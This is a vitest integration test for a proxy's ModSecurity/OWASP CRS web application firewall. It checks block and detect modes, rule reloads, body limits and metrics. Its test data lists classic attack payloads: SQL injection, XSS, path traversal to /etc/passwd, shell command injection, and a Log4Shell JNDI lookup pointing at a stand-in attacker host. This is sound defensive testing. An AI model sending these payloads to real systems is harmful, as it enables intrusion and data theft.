// The ModSecurity WAF with the OWASP CRS, through the real binary: real attack payloads are blocked (403,
// X-Fulcrum-Error: waf, rule ids in the access log) in block mode and passed on but logged in detect mode;
// an extra rule file applies; bodies beyond waf.bodyLimit get 413; /stats and /metrics count verdicts.
// Skipped when the addon was built without libmodsecurity.
import { copyFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { native } from '../../../src/native/load.js';
import { waitForStats } from '../../helpers/admin.js';
import { tempConfigPath } from '../../helpers/config-file.js';
import { startEchoOrigin } from '../../helpers/echo-origin.js';
import { type L7Proxy, send, startL7Proxy } from '../../helpers/l7-proxy.js';
import { freePort, type TestOrigin } from '../../helpers/origins.js';

const MARKER_RULES = fileURLToPath(new URL('../../fixtures/waf/deny-marker.conf', import.meta.url));
const BROKEN_RULES = fileURLToPath(new URL('../../fixtures/waf/broken.conf', import.meta.url));
const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', accept: '*/*' };

/** [name, method, path, headers, body]: each trips a CRS rule at paranoia 1. */
const ATTACKS: [string, string, string, Record<string, string>, string | undefined][] = [
  ['SQL injection in the query', 'GET', '/items?id=1%27%20OR%20%271%27=%271', BROWSER, undefined],
  [
    'SQL injection in a JSON body',
    'POST',
    '/api/login',
    { ...BROWSER, 'content-type': 'application/json' },
    '{"user":"admin\' UNION SELECT password FROM users--"}',
  ],
  ['XSS in the query', 'GET', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', BROWSER, undefined],
  [
    'XSS in a form post',
    'POST',
    '/comments',
    { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded' },
    'text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  ],
  ['path traversal', 'GET', '/download?file=../../../../etc/passwd', BROWSER, undefined],
  ['shell injection', 'GET', '/ping?host=127.0.0.1%3B%20cat%20/etc/passwd', BROWSER, undefined],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text a Log4j lookup takes.
  ['Log4Shell JNDI lookup', 'GET', '/', { ...BROWSER, 'x-api-version': '${jndi:ldap://attacker.example/a}' }, undefined],
  ['a scanner user agent', 'GET', '/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)', accept: '*/*' }, undefined],
];

function wafFile(origin: TestOrigin, mode: 'block' | 'detect'): Record<string, unknown> {
  return {
    pools: { app: { backends: [origin.address] } },
    waf: { mode, paranoia: 1, rules: [MARKER_RULES], bodyLimit: '16kb' },
    routes: [
      { match: { pathPrefix: '/open' }, pool: 'app', waf: 'off' },
      { match: { pathPrefix: '/' }, pool: 'app' },
    ],
  };
}

describe.skipIf(!native.waf.available)('the WAF', () => {
  let origin: TestOrigin;
  let blocking: L7Proxy;
  let detecting: L7Proxy;
  let adminPort: number;

  beforeAll(async () => {
    origin = await startEchoOrigin('app');
    adminPort = await freePort();
    [blocking, detecting] = await Promise.all([
      startL7Proxy({ FULCRUM_ACCESS_LOG: 'true', FULCRUM_ADMIN_LISTEN: `127.0.0.1:${adminPort}` }, wafFile(origin, 'block')),
      startL7Proxy({ FULCRUM_ACCESS_LOG: 'true', FULCRUM_PROTOCOLS: 'all' }, wafFile(origin, 'detect')),
    ]);
  }, 30_000);
  afterAll(async () => {
    await Promise.all([blocking?.stop(), detecting?.stop()]);
    await origin?.close();
  });

  it.each(ATTACKS)(
    'blocks %s in block mode: 403, X-Fulcrum-Error: waf, the rule ids logged',
    async (_name, method, path, headers, body) => {
      const reply = await send(`${blocking.url}${path}`, { method, headers, ...(body === undefined ? {} : { body }) });
      expect(reply.status).toBe(403);
      expect(reply.headers['x-fulcrum-error']).toBe('waf');
      const rules = /rules ([\d, ]+)/.exec(reply.body)?.[1]?.split(', ') ?? [];
      expect(rules).toContain('949110');
      expect(rules.length).toBeGreaterThan(1);
      const logged = `"path":"${path.split('?')[0]}","status":403`;
      await expect.poll(() => blocking.process.output(), { timeout: 2_000 }).toContain(logged);
    },
  );

  it.each(ATTACKS)('passes %s on in detect mode and logs the matched rules', async (_name, method, path, headers, body) => {
    const before = detecting.process.output().length;
    const reply = await send(`${detecting.url}${path}`, { method, headers, ...(body === undefined ? {} : { body }) });
    expect(reply.status).toBe(200);
    expect(JSON.parse(reply.body).body).toBe(body ?? '');
    await expect
      .poll(() => detecting.process.output().slice(before), { timeout: 2_000 })
      .toMatch(/"msg":"http request".*"status":200.*"waf":\[\d+,.*949110\]/);
    expect(detecting.process.output().slice(before)).toContain('waf rules matched a request; passed on');
  });

  it('applies an extra rule file, and leaves a route with waf: off alone', async () => {
    const blocked = await send(`${blocking.url}/things?tag=fulcrum-test-marker`, { headers: BROWSER });
    expect(blocked.status).toBe(403);
    expect(blocked.body).toContain('1000001');
    const open = await send(`${blocking.url}/open?id=1%27%20OR%20%271%27=%271`, { headers: BROWSER });
    expect(open.status).toBe(200);
  });

  it('refuses a body beyond waf.bodyLimit with 413, declared or chunked', async () => {
    const big = JSON.stringify({ data: 'x'.repeat(20_000) });
    const declared = await send(`${blocking.url}/upload`, {
      method: 'POST',
      headers: { ...BROWSER, 'content-type': 'application/json' },
      body: big,
      agent: false,
    });
    expect(declared.status).toBe(413);
    const fits = await send(`${blocking.url}/upload`, {
      method: 'POST',
      headers: { ...BROWSER, 'content-type': 'application/json' },
      body: `${big.slice(0, 10_000)}"}`,
    });
    expect(fits.status).toBe(200);
  });

  it('counts blocked requests and matched rules in /stats and /metrics', async () => {
    await waitForStats(
      adminPort,
      (stats) =>
        ((stats.dataPlane.waf as unknown as { requests: { blocked: number } } | undefined)?.requests.blocked ?? 0) >= ATTACKS.length,
      3_000,
    );
    const metrics = await (await fetch(`http://127.0.0.1:${adminPort}/metrics`)).text();
    expect(metrics).toMatch(/fulcrum_waf_requests_total\{verdict="blocked"\} \d+/);
    expect(metrics).toMatch(/fulcrum_waf_rule_matches_total\{rule="942100",verdict="blocked"\} \d+/);
    expect(metrics).toMatch(/fulcrum_waf_rule_matches_total\{rule="913100",verdict="blocked"\} 1/);
  });

  it('keeps the old rules serving when a reload brings a rule file with a syntax error, and takes a fixed one', async () => {
    const configPath = tempConfigPath('fulcrum.yaml');
    const rulesPath = join(dirname(configPath), 'local.conf');
    copyFileSync(MARKER_RULES, rulesPath);
    writeFileSync(configPath, stringify({ ...wafFile(origin, 'block'), waf: { mode: 'block', rules: ['local.conf'] } }));
    const reloaded = await startL7Proxy({ FULCRUM_CONFIG: configPath });
    try {
      copyFileSync(BROKEN_RULES, rulesPath);
      reloaded.process.child.kill('SIGHUP');
      await expect
        .poll(() => reloaded.process.output(), { timeout: 5_000 })
        .toContain('reload rejected; the previous configuration keeps serving');
      expect(reloaded.process.output()).toContain('Expecting an action, got: noSuchAction');
      expect((await send(`${reloaded.url}/things?tag=fulcrum-test-marker`, { headers: BROWSER })).status).toBe(403);
      expect((await send(`${reloaded.url}/things?tag=ordinary`, { headers: BROWSER })).status).toBe(200);
      // The same file name with new contents is a new rule set (its digest is part of the key).
      writeFileSync(rulesPath, 'SecRule ARGS "@contains second-marker" "id:1000003,phase:2,deny,status:403,log"\n');
      reloaded.process.child.kill('SIGHUP');
      await expect
        .poll(async () => (await send(`${reloaded.url}/things?tag=second-marker`, { headers: BROWSER })).status, { timeout: 5_000 })
        .toBe(403);
      expect((await send(`${reloaded.url}/things?tag=fulcrum-test-marker`, { headers: BROWSER })).status).toBe(200);
    } finally {
      await reloaded.stop();
    }
  });

  it('gives a request’s concurrency caps back when the WAF refuses it (403, 413)', async () => {
    const capped = await startL7Proxy({}, { ...wafFile(origin, 'block'), maxConnectionsPerIp: 1 });
    try {
      for (const [, method, path, headers, body] of ATTACKS.slice(0, 4)) {
        expect((await send(`${capped.url}${path}`, { method, headers, ...(body === undefined ? {} : { body }) })).status).toBe(403);
      }
      const tooBig = { method: 'POST', headers: { ...BROWSER, 'content-type': 'application/json' }, agent: false } as const;
      expect((await send(`${capped.url}/upload`, { ...tooBig, body: JSON.stringify({ data: 'x'.repeat(20_000) }) })).status).toBe(413);
      // Had any refusal kept its place, this address would be over its cap of 1.
      expect((await send(`${capped.url}/ordinary`, { headers: BROWSER })).status).toBe(200);
    } finally {
      await capped.stop();
    }
  });
});
